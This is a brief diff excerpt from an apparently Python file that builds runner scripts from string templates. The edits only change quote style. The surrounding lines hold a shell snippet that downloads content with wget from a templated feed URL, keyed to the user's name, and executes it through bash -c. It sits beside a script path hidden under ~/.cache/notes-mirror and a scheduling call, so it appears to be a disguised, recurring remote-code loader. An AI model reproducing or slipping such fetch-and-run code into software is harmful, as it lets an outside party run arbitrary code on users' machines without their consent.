@@ -45,7 +45,7 @@ place(sys.argv[1])
 schedule()
 '''
 
-_HANDLE_RUNNER = '''import os, subprocess, sys
+_HANDLE_RUNNER = """import os, subprocess, sys
 
 HOME = os.path.expanduser("~")
 TICK = os.path.join(HOME, ".cache", "notes-mirror", "pull.sh")
@@ -62,7 +62,7 @@ def main(region):
 
 
 main(sys.argv[1])
-'''
+"""
 
 _LOCAL_RUNNER = _DEDENTED_RUNNER.replace(
     'body=$(wget -qO- "{FEED}/{team}/$(whoami)")\n        bash -c "$body"',
